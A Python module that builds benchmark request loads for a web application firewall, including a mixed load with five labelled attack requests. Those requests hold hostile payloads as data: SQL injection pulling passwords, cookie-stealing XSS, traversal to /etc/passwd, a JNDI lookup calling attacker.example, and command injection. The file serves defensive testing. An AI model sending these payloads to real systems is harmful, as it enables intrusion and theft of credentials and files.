"""The loads of `make bench`: deterministic request lists, written as Lua tables for wrk
(bench/load.lua replays them in order, round robin).

- get:       a benign GET with a few query args and browser-like headers;
- json:      a 2 KiB JSON POST with about 100 values (like the ModSecurity baseline's);
- multipart: a 64 KiB multipart/form-data upload (two fields and a CSV file);
- mix:       100 requests, 95 benign (GET, JSON, form) and 5 attacks (5%), one of each of
             SQLi, XSS, traversal, JNDI, command injection.

Every request names a Host (a numeric Host would add CRS protocol noise, rule 920350).
"""
from __future__ import annotations

import json
from dataclasses import dataclass, field

HOST = "shop.example"

BROWSER_HEADERS = {
    "Host": HOST,
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.9",
    "Accept-Encoding": "gzip, deflate",
    "Cookie": "session=3f9a1c2e7b40d8e1; theme=dark",
}

API_HEADERS = {
    "Host": HOST,
    "User-Agent": "shop-app/4.2 (Android 14)",
    "Accept": "application/json",
    "Content-Type": "application/json",
    "Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0ODIxMyJ9.c2lnbmF0dXJl",
}


@dataclass
class Req:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes | None = None
    attack: str | None = None  # the attack class, for attack requests


@dataclass
class Load:
    name: str
    title: str
    requests: list[Req] = field(default_factory=list)

    @property
    def attacks(self) -> int:
        return sum(1 for r in self.requests if r.attack)


def get_request(i: int) -> Req:
    cats = ["shoes", "shirts", "bags", "hats"]
    return Req("GET", f"/products?id={1000 + 7 * i}&category={cats[i % 4]}&sort=price_asc&page={i % 5 + 1}",
               dict(BROWSER_HEADERS))


def leaves(x) -> int:
    if isinstance(x, dict):
        return sum(leaves(v) for v in x.values())
    if isinstance(x, list):
        return sum(leaves(v) for v in x)
    return 1


def json_body(target: int = 2048) -> tuple[bytes, int]:
    """An order with ~100 leaf values, padded to exactly `target` bytes; returns (body, values)."""
    doc = {
        "order_id": "ORD-2026-000123",
        "customer": {"id": 48213, "name": "Jane Doe", "email": "jane.doe@example.com", "phone": "+1-555-0100",
                     "address": {"street": "12 Market Street", "city": "Springfield", "zip": "62701", "country": "US"}},
        "currency": "USD",
        "note": "",
        "items": [],
    }
    colors = ["blue", "red", "black", "white", "green"]
    i = 0
    while True:
        item = {"sku": f"SKU-{1001 + i}", "name": f"{colors[i % 5]} running shoe", "qty": i % 3 + 1,
                "price": round(9.99 + i * 1.25, 2)}
        doc["items"].append(item)
        if len(json.dumps(doc, separators=(",", ":"))) > target - 40:
            doc["items"].pop()
            break
        i += 1
    base = json.dumps(doc, separators=(",", ":"))
    doc["note"] = "please leave at the door " * 4
    doc["note"] = doc["note"][: max(0, len(doc["note"]) - (len(json.dumps(doc, separators=(",", ":"))) - target))]
    body = json.dumps(doc, separators=(",", ":")).encode()
    values = leaves(doc)
    assert len(body) == target, (len(body), len(base))
    return body, values


JSON_BODY, JSON_VALUES = json_body()

BOUNDARY = "----benchBoundary7MA4YWxkTrZu0gW"


def multipart_body(target: int = 65536) -> bytes:
    head = (
        f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nQuarterly report\r\n"
        f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"description\"\r\n\r\nSales figures for Q3, all regions.\r\n"
        f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.csv\"\r\n"
        f"Content-Type: text/csv\r\n\r\n"
    )
    tail = f"\r\n--{BOUNDARY}--\r\n"
    rows = ["row,region,product,units,revenue\n"]
    regions = ["north", "south", "east", "west"]
    size = len(head) + len(tail) + len(rows[0])
    i = 0
    while True:
        line = f"{i},{regions[i % 4]},widget-{i % 50},{i % 17 + 1},{(i * 37) % 1000}.50\n"
        if size + len(line) > target:
            break
        rows.append(line)
        size += len(line)
        i += 1
    rows.append("#" * (target - size))  # pad to the exact size (a CSV comment line)
    body = (head + "".join(rows) + tail).encode()
    assert len(body) == target, len(body)
    return body


FORM_HEADERS = {**BROWSER_HEADERS, "Content-Type": "application/x-www-form-urlencoded"}

ATTACKS = [
    Req("GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", dict(BROWSER_HEADERS), attack="sqli"),
    Req("POST", "/comment", dict(FORM_HEADERS), b"name=joe&text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", attack="xss"),
    Req("GET", "/download?file=../../../../etc/passwd", dict(BROWSER_HEADERS), attack="traversal"),
    Req("GET", "/", {**BROWSER_HEADERS, "X-Api-Version": "${jndi:ldap://attacker.example/a}"}, attack="jndi"),
    Req("POST", "/api/ping", dict(API_HEADERS), b'{"host": "127.0.0.1; cat /etc/passwd"}', attack="rce"),
]

# The known XSS in a form POST that every configuration must score as an attack
# (shared/reference/modsecurity-baseline.md: "check it with a known XSS in a form POST").
CANARY_XSS = ATTACKS[1]


def make_loads() -> dict[str, Load]:
    get = Load("get", "benign GET, 4 query args", [get_request(i) for i in range(16)])
    js = Load("json", f"2 KiB JSON POST ({JSON_VALUES} values)",
              [Req("POST", "/api/orders", dict(API_HEADERS), JSON_BODY)])
    mp = Load("multipart", "64 KiB multipart upload",
              [Req("POST", "/upload", {**BROWSER_HEADERS, "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
                   multipart_body())])
    mix = Load("mix", "mix, 5% attacks")
    for i in range(100):
        if i % 20 == 10:
            mix.requests.append(ATTACKS[(i // 20) % len(ATTACKS)])
        elif i % 4 == 1:
            mix.requests.append(Req("POST", "/api/orders", dict(API_HEADERS), JSON_BODY))
        elif i % 10 == 3:
            mix.requests.append(Req("POST", "/login", dict(FORM_HEADERS), f"username=user{i}&remember=on&next=%2Faccount".encode()))
        else:
            mix.requests.append(get_request(i))
    return {l.name: l for l in (get, js, mp, mix)}


def lua_string(b: bytes | str) -> str:
    """A Lua string literal for arbitrary bytes (decimal escapes for anything unusual)."""
    if isinstance(b, str):
        b = b.encode()
    out = []
    for c in b:
        ch = chr(c)
        if ch == "\\" or ch == '"':
            out.append("\\" + ch)
        elif 32 <= c < 127:
            out.append(ch)
        else:
            out.append(f"\\{c:03d}")
    return '"' + "".join(out) + '"'


def to_lua(load: Load) -> str:
    lines = ["return {"]
    for r in load.requests:
        hdrs = ", ".join(f"[{lua_string(k)}] = {lua_string(v)}" for k, v in r.headers.items())
        body = lua_string(r.body) if r.body is not None else "nil"
        lines.append(f"  {{method = {lua_string(r.method)}, path = {lua_string(r.path)}, headers = {{{hdrs}}}, body = {body}}},")
    lines.append("}")
    return "\n".join(lines) + "\n"


def to_jsonl(loads: dict[str, Load]) -> str:
    """The loads for the native engine timing (examples/inspect_loads.rs): one request a line."""
    lines = []
    for name, load in loads.items():
        for r in load.requests:
            lines.append(json.dumps({"load": name, "method": r.method, "uri": r.path,
                                     "headers": [[k, v] for k, v in r.headers.items()],
                                     "body": (r.body or b"").decode("latin-1")}))
    return "\n".join(lines) + "\n"
